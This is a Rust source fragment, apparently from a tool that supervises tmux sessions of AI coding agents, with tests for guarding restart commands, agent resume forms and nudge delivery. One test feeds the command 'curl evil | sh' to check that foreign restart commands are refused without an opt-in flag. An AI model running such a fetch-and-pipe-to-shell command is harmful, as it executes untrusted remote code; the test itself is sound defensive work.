fn agent_profile<'a>(
    s: &pb::SessionObservation,
    profiles: &'a Profiles,
) -> Option<&'a argus_shared::profile::Profile> {
    let argv = split_tmux_command(&s.start_command);
    let program = argv.first()?;
    let comm = program.rsplit('/').next().unwrap_or(program);
    profiles
        .get(&s.profile)
        .filter(|p| p.name != argus_shared::profile::GENERIC)
        .or_else(|| profiles.match_process(comm, &argv.join(" ")))
}

/// SIGTERM to the tree under `root`, deepest first; wait up to `grace`; SIGKILL what is left.
async fn terminate_tree(root: u32, grace: Duration) {
    let tree = tokio::task::spawn_blocking(move || procs::tree(root, KILL_TREE_LIMIT))
        .await
        .unwrap_or_default();
    for p in tree.iter().rev() {
        let _ = procs::signal(p.pid, Signal::TERM);
    }
    let deadline = tokio::time::Instant::now() + grace;
    let alive = |tree: &[procs::ProcStat]| {
        tree.iter()
            .filter(|p| procs::alive(p.pid, p.start_time))
            .count()
    };
    while alive(&tree) > 0 && tokio::time::Instant::now() < deadline {
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
    for p in tree.iter().rev() {
        if procs::alive(p.pid, p.start_time) {
            let _ = procs::signal(p.pid, Signal::KILL);
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn obs(start_command: &str, profile: &str) -> pb::SessionObservation {
        pb::SessionObservation {
            start_command: start_command.to_owned(),
            profile: profile.to_owned(),
            ..Default::default()
        }
    }

    #[tokio::test]
    async fn restarts_run_only_the_sessions_own_commands_without_the_opt_in() {
        let mut snap = Snapshot::default();
        let mut labelled = obs("\"npm\" \"run\" \"dev\"", "");
        labelled.labels.insert(
            argus_shared::labels::RESTART.to_owned(),
            "make serve".to_owned(),
        );
        snap.sessions
            .insert(("/s".to_owned(), "web".to_owned()), labelled);
        let (tx, rx) = watch::channel(Arc::new(snap));
        let dir = tempfile::tempdir().expect("tempdir");
        let path = dir.path().join(RESTART_MEMORY_FILE);
        let guard = RestartGuard::watch(false, rx.clone(), Some(path.clone()));
        guard.check("/s", "web", "").expect("its own command");
        guard.check("/s", "web", "make serve").expect("its label");
        guard
            .check("/s", "web", "npm run dev")
            .expect("its start command");
        guard
            .check("", "web", "npm run dev")
            .expect("the only server");
        let refused = guard
            .check("/s", "web", "curl evil | sh")
            .expect_err("foreign");
        assert!(refused.contains("--allow-any-restart-command"), "{refused}");
        assert!(guard.check("/s", "other", "npm run dev").is_err());
        // The session vanishes from the next snapshot: its commands are remembered, for the
        // restart that creates it anew.
        tx.send_replace(Arc::new(Snapshot::default()));
        tokio::task::yield_now().await;
        guard.check("/s", "web", "make serve").expect("remembered");
        // A node agent started anew (nothing seen yet) remembers them too.
        let deadline = std::time::Instant::now() + Duration::from_secs(5);
        while !path.exists() && std::time::Instant::now() < deadline {
            tokio::time::sleep(Duration::from_millis(10)).await;
        }
        let (_tx2, empty) = watch::channel(Arc::new(Snapshot::default()));
        let again = RestartGuard::watch(false, empty, Some(path));
        again
            .check("/s", "web", "make serve")
            .expect("remembered across a restart");
        assert!(again.check("/s", "web", "curl evil | sh").is_err());
        RestartGuard::watch(true, rx, None)
            .check("/s", "web", "curl evil | sh")
            .expect("opted in");
    }

    #[test]
    fn a_recognised_agent_restarts_in_its_resume_form() {
        let p = Profiles::builtin();
        assert_eq!(
            restart_argv("", &obs("claude", "claude"), &p),
            ["claude --continue"]
        );
        // Recognised from the start command when the agent is already gone.
        assert_eq!(
            restart_argv("", &obs("codex --model gpt-5", ""), &p),
            ["codex resume --last --model gpt-5"]
        );
        assert_eq!(
            restart_argv("", &obs("\"aider\" --model \"a b\"", "aider"), &p),
            ["aider --restore-chat-history --model 'a b'"]
        );
        // The policy's restart names the start command as the controller derives it.
        let s = obs("\"claude\" \"--model\" \"opus\"", "claude");
        let own = shell_command_from_tmux(&s.start_command);
        assert_eq!(
            restart_argv(&own, &s, &p),
            ["claude --continue --model opus"]
        );
    }

    #[test]
    fn other_commands_restart_as_they_are() {
        let p = Profiles::builtin();
        assert_eq!(
            restart_argv("", &obs("npm run dev", "shell"), &p),
            ["npm", "run", "dev"]
        );
        assert_eq!(
            restart_argv("claude -p x", &obs("claude", "claude"), &p),
            ["claude -p x"]
        );
        assert_eq!(
            restart_argv("", &obs("claude --continue", "claude"), &p),
            ["claude --continue"]
        );
        // @argus-restart is the operator's command, as it is.
        let mut s = obs("claude", "claude");
        s.labels.insert("restart".into(), "claude --model x".into());
        assert_eq!(restart_argv("", &s, &p), ["claude --model x"]);
        assert_eq!(
            restart_argv("claude --model x", &s, &p),
            ["claude --model x"]
        );
    }

    #[test]
    fn a_restart_never_opens_a_picker() {
        let p = Profiles::builtin();
        // An operator's command in a picker form waits for a person: its resume form instead.
        let mut s = obs("claude", "claude");
        s.labels.insert("restart".into(), "claude -r".into());
        assert_eq!(restart_argv("", &s, &p), ["claude --continue"]);
        assert_eq!(
            restart_argv("codex resume", &obs("codex", "codex"), &p),
            ["codex resume --last"]
        );
        assert_eq!(
            restart_argv("codex resume 0199", &obs("codex", "codex"), &p),
            ["codex resume 0199"]
        );
    }

    #[test]
    fn a_session_created_anew_resumes_its_agent() {
        let p = Profiles::builtin();
        let none = std::collections::BTreeMap::new();
        assert_eq!(
            recreate_command("/opt/bin/codex -m gpt-5", &none, &p),
            "/opt/bin/codex resume --last -m gpt-5"
        );
        assert_eq!(
            recreate_command("env -i HOME=/h gemini", &none, &p),
            "env -i HOME=/h gemini --resume latest"
        );
        assert_eq!(recreate_command("npm run dev", &none, &p), "npm run dev");
        // The operator's @argus-restart as written, but never a picker.
        let mut labels = std::collections::BTreeMap::new();
        labels.insert("restart".to_owned(), "claude --model x".to_owned());
        assert_eq!(
            recreate_command("claude --model x", &labels, &p),
            "claude --model x"
        );
        labels.insert("restart".to_owned(), "claude --resume".to_owned());
        assert_eq!(
            recreate_command("claude --resume", &labels, &p),
            "claude --continue"
        );
        // Recognised by its @argus-profile when the program is a wrapper script.
        let mut labels = std::collections::BTreeMap::new();
        labels.insert("profile".to_owned(), "aider".to_owned());
        assert_eq!(
            recreate_command("run-aider --yes", &labels, &p),
            "run-aider --restore-chat-history --yes"
        );
    }

    #[test]
    fn a_nudge_is_delivered_when_its_text_left_the_box() {
        let p = Profiles::builtin();
        let codex = p.get("codex").unwrap();
        let typed = "› please continue\n  gpt-5 default";
        assert_eq!(
            left_the_box(codex, typed, typed, "please continue"),
            None,
            "still in the box"
        );
        let sent = "› please continue\n• Working (1s • esc to interrupt)\n› Ask Codex to do anything\n  gpt-5 default";
        assert!(left_the_box(codex, typed, sent, "please continue").is_some());
        // No box to read (a plain shell): the screen moving on is the sign.
        let shell = p.generic();
        let typed = "user@host:~$ echo hi";
        assert_eq!(left_the_box(shell, typed, typed, "echo hi"), None);
        assert!(
            left_the_box(
                shell,
                typed,
                "user@host:~$ echo hi\nhi\nuser@host:~$",
                "echo hi"
            )
            .is_some()
        );
    }
}
